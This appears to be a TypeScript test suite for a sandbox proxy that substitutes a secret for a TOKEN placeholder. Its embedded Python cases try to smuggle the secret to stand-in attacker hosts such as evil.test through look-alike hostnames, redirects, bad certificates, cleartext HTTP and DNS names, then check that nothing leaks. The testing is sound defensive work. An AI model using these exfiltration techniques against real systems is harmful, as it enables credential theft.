/** Attacks at the value of a secret, by what has its placeholder: `TOKEN`, for `api.test` and hosts whose TLS cannot be verified. */
import assert from 'node:assert/strict'
import { type Attack, requests } from './attack.ts'
import type { Seen } from './journal.ts'

/** The value as the servers of the world know it. It is in no answer that a sandbox gets. */
export const tokenValue = 'v4lue-' + 'q8Z'.repeat(11)

/** Where the value has come to: host and path. */
function reached(seen: readonly Seen[]): string[] {
  return requests(seen).flatMap((request) =>
    JSON.stringify(request).includes(tokenValue) ? [`${request.host}${request.path}`] : [],
  )
}

const never = (seen: Seen[]) => assert.deepEqual(reached(seen), [])

export const secretAttacks: Attack[] = [
  {
    name: 'a placeholder for hosts of look-alike names',
    from: 'open',
    does: ({ evil }) => `
token = os.environ['TOKEN']
for name in 'evil.test', 'xapi.test', 'api.test.evil.test', 'api-test.test', 'api.tests', 'a.evil.test':
    print(status(tls(name, at='${evil}', data=request(name, '/alike?' + token, headers='Authorization: Bearer %s\\r\\n' % token))))`,
    ends: /^200$/,
    holds: never,
  },
  {
    name: 'the right host in capitals and with a dot at the end: it is the same host',
    from: 'open',
    does: `
token = os.environ['TOKEN']
for name in 'API.TEST', 'api.test.', 'Api.Test.': print(status(tls(name, sni=name.rstrip('.'), ca=None, at='api.test', data=request(name, '/same', headers='X-Key: %s\\r\\n' % token))))`,
    ends: /^200$/,
  },
  {
    name: 'the right host by an entry of /etc/hosts at the address of the attacker: the name is dialled',
    from: 'open',
    does: ({ evil }) =>
      `print(status(tls('api.test', at='${evil}', ca=None, data=request('api.test', '/pinned', headers='X-Key: %s\\r\\n' % os.environ['TOKEN']))))`,
    ends: /^200$/,
    holds: (seen, { main }) => {
      assert.deepEqual(reached(seen), ['api.test/pinned'])
      assert.deepEqual(
        requests(seen).map(({ address }) => address),
        [main],
      )
    },
  },
  {
    name: 'the right Host within TLS to the attacker',
    from: 'open',
    does: ({ evil }) =>
      `print(status(tls('evil.test', at='${evil}', data=request('api.test', '/front', headers='X-Key: %s\\r\\n' % os.environ['TOKEN']))))`,
    ends: /^200$/,
    holds: never,
  },
  {
    name: 'the right server name, the Host of the attacker',
    from: 'open',
    does: `print(status(tls('api.test', ca=None, data=request('evil.test', '/front', headers='X-Key: %s\\r\\n' % os.environ['TOKEN']))))`,
    ends: /^421$/,
    holds: never,
  },
  {
    name: 'a redirect to the attacker that keeps the fields',
    from: 'open',
    does: `
import subprocess
print(subprocess.run(['curl', '-sS', '--cacert', world, '-k', '-L', '-H', 'X-Key: ' + os.environ['TOKEN'], '--location-trusted', '-u', 'x:' + os.environ['TOKEN'], '-w', '%{http_code}', '-o', '/dev/null',
    'https://api.test/redirect?to=https://evil.test/followed&status=307', '-d', 'token=' + os.environ['TOKEN']], capture_output=True, text=True).stdout)`,
    ends: /^200$/,
    holds: (seen) => {
      assert.ok(requests(seen).some(({ host, path }) => host === 'evil.test' && path === '/followed'))
      assert.ok(reached(seen).every((place) => place.startsWith('api.test/redirect')))
    },
  },
  {
    name: 'a server whose certificate is not to be trusted, or is of another name',
    from: 'open',
    does: `
for name in 'selfsigned.test', 'misnamed.test':
    answer = tls(name, ca=None, verifies=False, data=request(name, '/unverified', headers='X-Key: %s\\r\\n' % os.environ['TOKEN']))
    print(status(answer))`,
    ends: /^(502|.*(alert|eof).*|closed|reset)$/,
    holds: (seen) => {
      never(seen)
      assert.ok(!requests(seen).some(({ path }) => path === '/unverified'))
    },
  },
  {
    name: 'HTTP in the clear to the right host',
    from: 'open',
    does: `print(status(tcp('api.test', 80, request('api.test', '/clear', headers='X-Key: %s\\r\\n' % os.environ['TOKEN'])))); print(status(tcp('api.test', 443, request('api.test', '/clear', headers='X-Key: %s\\r\\n' % os.environ['TOKEN']))))`,
    ends: /./,
    holds: never,
  },
  {
    name: 'the value in an answer is masked: in chunks, compressed, in a field, whole',
    from: 'open',
    does: `
import zlib, gzip
token = os.environ['TOKEN']
for path in '/plain', '/gzip', '/deflate', '/br', '/gzip?always', '/deflate?always', '/br?always':
    for encodings in 'gzip, deflate, br', 'identity':
        answer = tls('api.test', ca=None, data=request('api.test', path, 'POST', 'Authorization: Bearer %s\\r\\nAccept-Encoding: %s\\r\\n' % (token, encodings), 'a=' + token)).encode('latin1')
        head, packed = answer.partition(b'\\r\\n\\r\\n')[0], whole(answer.decode('latin1'))
        for read in (lambda b: b), gzip.decompress, zlib.decompress:
            try: text = read(packed)
            except Exception: continue
            print('held' if b'v4lue-' in head + text else 'masked' if b'HTTP/1.1 200' in head else head[:12])`,
    // What cannot be read for masking is not given.
    ends: /^(masked|b'HTTP\/1\.1 502')$/,
  },
  {
    name: 'what a WebSocket says is not read: a host with the secret can give it away there, as is stated',
    from: 'open',
    does: `
key = 'Connection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n'
answer = tls('api.test', ca=None, data=('GET /socket HTTP/1.1\\r\\nHost: api.test\\r\\nX-Key: %s\\r\\n%s\\r\\n' % (os.environ['TOKEN'], key)).encode())
print('held' if 'v4lue-' in answer else 'kept' if '"/socket"' in answer else answer[:60])`,
    ends: /^(held|kept)$/,
  },
  {
    name: 'TRACE gives nothing back that was put in',
    from: 'open',
    does: `
answer = tls('api.test', ca=None, data=request('api.test', '/trace', 'TRACE', 'X-Key: %s\\r\\n' % os.environ['TOKEN']))
print('held' if 'v4lue-' in answer else 'kept')`,
    ends: /^kept$/,
  },
  {
    name: 'a range of an answer that cuts the value in two',
    from: 'open',
    does: `
got = [tls('api.test', ca=None, data=request('api.test', '/plain', headers='X-Key: %s\\r\\nRange: bytes=%d-%d\\r\\n' % (os.environ['TOKEN'], at, at + 400))) for at in (0, 20)]
print('held' if any('v4lue-' in each for each in got) else 'kept')`,
    ends: /^kept$/,
  },
  {
    name: 'a placeholder that is cut by chunks, one byte each, arrives as the value',
    from: 'open',
    does: `
body = 'before ' + os.environ['TOKEN'] + ' after'
chunks = ''.join('1\\r\\n%s\\r\\n' % sign for sign in body) + '0\\r\\n\\r\\n'
data = 'POST /cut HTTP/1.1\\r\\nHost: api.test\\r\\nTransfer-Encoding: chunked\\r\\nConnection: close\\r\\n\\r\\n' + chunks
print(status(tls('api.test', ca=None, data=data.encode())))`,
    ends: /^200$/,
    holds: (seen) =>
      assert.equal(requests(seen).find(({ path }) => path === '/cut')?.body, `before ${tokenValue} after`),
  },
  {
    name: 'a placeholder in a compressed body stays text, as is stated',
    from: 'open',
    does: `
import gzip
data = gzip.compress(os.environ['TOKEN'].encode())
head = 'POST /packed HTTP/1.1\\r\\nHost: api.test\\r\\nContent-Encoding: gzip\\r\\nContent-Length: %d\\r\\nConnection: close\\r\\n\\r\\n' % len(data)
print(status(tls('api.test', ca=None, data=head.encode() + data)))`,
    ends: /^(200|400|415)$/,
    holds: never,
  },
  {
    name: 'places that were not chosen: path, query, names of fields, the method, Host',
    from: 'open',
    does: `
token = os.environ['TOKEN']
print(status(tls('api.test', ca=None, data=request('api.test', '/' + token + '?q=' + token, headers=token + ': x\\r\\n'))))
print(status(tls('api.test', ca=None, data=request('api.test', '/', name=token + '.api.test'))))
print(status(tls('api.test', ca=None, data=request('api.test', '/', token))))`,
    ends: /^(200|400|403|404|405|421|501|closed)$/,
    holds: never,
  },
  {
    name: 'parts of a placeholder, in other case, or twice encoded',
    from: 'open',
    does: `
import base64
token = os.environ['TOKEN']
for text in token[:-1], token[1:], token.upper(), token[:20] + ' ' + token[20:], base64.b64encode(token.encode()).decode(), ''.join('%%%02x' % ord(sign) for sign in token):
    print(status(tls('api.test', ca=None, data=request('api.test', '/parts', headers='X-Key: %s\\r\\n' % text))))`,
    ends: /^200$/,
    holds: never,
  },
  {
    name: 'frames of WebSocket: what is said after the upgrade stays text, as is stated',
    from: 'open',
    does: `
import subprocess
open('ws.mjs', 'w').write('''
const socket = new WebSocket('wss://api.test/chat'); let first = true
socket.onmessage = ({ data }) => { if (first) { first = false; socket.send(process.env.TOKEN) } else { console.log(data === process.env.TOKEN ? 'text' : 'another'); process.exit(0) } }
socket.onerror = () => { console.log('error'); process.exit(0) }''')
print(subprocess.run(['node', '--no-warnings', 'ws.mjs'], capture_output=True, text=True, timeout=60).stdout.strip())`,
    ends: /^text$/,
    holds: never,
  },
  {
    name: 'line breaks and fields around a placeholder',
    from: 'open',
    does: `
print(status(tls('api.test', ca=None, data=request('api.test', '/split', headers='X-Key: %s\\rX-Other: y\\r\\n' % os.environ['TOKEN']))))`,
    ends: /^(400|200)$/,
    holds: (seen) => assert.ok(reached(seen).every((place) => place === 'api.test/split')),
  },
  {
    name: 'names that carry a placeholder: it stays text',
    from: 'open',
    does: `print(dns(os.environ['TOKEN'].replace('_', '-')[:60] + '.evil.test')); print(tcp(anywhere, 9000, os.environ['TOKEN'].encode() + b'\\n')[:4])`,
    ends: [/^1 records$/, /^echo$/],
    holds: never,
  },
]
